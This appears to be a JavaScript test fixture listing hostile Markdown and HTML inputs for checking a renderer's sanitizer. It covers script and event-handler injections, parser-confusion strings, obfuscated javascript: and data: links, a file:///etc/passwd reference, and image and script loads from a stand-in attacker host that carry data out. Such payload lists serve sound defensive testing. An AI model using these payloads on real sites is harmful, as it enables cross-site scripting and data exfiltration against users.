// Markdown that tries to run a script, fetch something or navigate, by kind. Each script calls pwn().

const HOST = 'https://attacker.example'

/** Raw HTML. */
const elements = [
  '<script>pwn()</script>',
  `<script src="${HOST}/a.js"></script>`,
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<img src="x" onerror="pwn()" alt="soup">',
  '<svg onload=pwn()></svg>',
  '<svg><a xlink:href="javascript:pwn()"><text y=20>soup</text></a></svg>',
  `<svg><use href="${HOST}/a.svg#b"></use></svg>`,
  `<iframe src="${HOST}"></iframe>`,
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  `<object data="${HOST}/a.swf"></object>`,
  `<base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}">`,
  `<link rel="stylesheet" href="${HOST}/a.css">`,
  `<style>@import "${HOST}/a.css"; body { display: none }</style>`,
  `<form action="${HOST}"><button>Suggest a recipe</button></form>`,
  '<input autofocus onfocus=pwn()>',
  '<details open ontoggle=pwn()>soup</details>',
  '<div onmouseover="pwn()" onclick="pwn()">soup</div>',
  '<a href="javascript:pwn()">soup</a>',
  '<div id="root">soup</div><div name="getElementById">soup</div>',
]

/** Text that two parsers read in different ways. */
const mutations = [
  '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwn()>',
  '<!--><img src=x onerror=pwn()>-->',
  '<![CDATA[><img src=x onerror=pwn()>]]>',
  '<textarea><img title="</textarea><img src=x onerror=pwn()>"></textarea>',
  '<a href="x"<img src=x onerror=pwn()>>',
  '`<img src=x onerror=pwn()>\n\n<img src=x onerror=pwn()>`',
  '**<img src=x onerror=**pwn()>',
  '- <script>\n  pwn()\n  </script>',
  '| a |\n| - |\n| <img src=x onerror=pwn()> |',
  '<p>\n\n**soup**\n\n<script>pwn()</script>\n\n</p>',
]

const schemes = [
  'javascript:pwn()',
  'JaVaScRiPt:pwn()',
  'javascript&colon;pwn()',
  '&#106;avascript:pwn()',
  'java&#9;script:pwn()',
  'java&NewLine;script:pwn()',
  'javascript://a.example/%0Apwn()',
  'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
  'file:///etc/passwd',
  'intent://a#Intent;scheme=http;end',
  '//attacker.example/a',
  '/\\attacker.example/a',
  '/v1/chat/completions',
  '#top',
  'http:a',
  '',
]

/** Each scheme in every form of a link. */
const addresses = schemes.map((url) =>
  [
    `[soup](<${url}>)`,
    `[soup][r]\n\n[r]: <${url}>`,
    `![soup](<${url}>)`,
    ...(/^[a-z]+:/i.test(url) && !/[\s<]/.test(url) ? [`<${url}>`] : []),
  ].join('\n\n'),
)

/** Images whose URL carries data to a server. */
const pictures = [
  `![soup](${HOST}/a.png?list=egg)`,
  `![soup](http://attacker.example/b.png)`,
  `![soup][p]\n\n[p]: ${HOST}/e.png`,
  `[![soup](${HOST}/g.png)](${HOST}/h)`,
  `![![soup](${HOST}/j.png)](${HOST}/k.png)`,
  `| ![soup](${HOST}/l.png) |\n| - |`,
  `![soup](${HOST}/p.png){onerror=pwn()}`,
]

/** Text that tries to end the attribute or the name that contains it. */
const breakouts = [
  '[soup](http://a.example "\\" onclick=\\"pwn()")',
  `[soup](http://a.example '" onmouseover="pwn()')`,
  '![" onerror="pwn()](x)',
  '![soup](x" onerror="pwn\\(\\))',
  '```" onclick="pwn()\nsoup\n```',
  '[^<img src=x onerror=pwn()>]\n\n[^<img src=x onerror=pwn()>]: soup',
  '[__proto__]\n\n[__proto__]: http://a.example',
  '[constructor]: javascript:pwn()\n\n[constructor]',
  '- [x](javascript:pwn()) soup',
  'www.a.example/"onclick="pwn()',
  'http://a.example/<img/src=x/onerror=pwn()>',
  '<http://a.example/" onclick="pwn()>',
  '<mailto:a@b.example?body=%0d%0aBcc:c@d.example>',
  '\u202Ejavascript:pwn()',
]

export const PAYLOADS = { elements, mutations, addresses, pictures, breakouts }
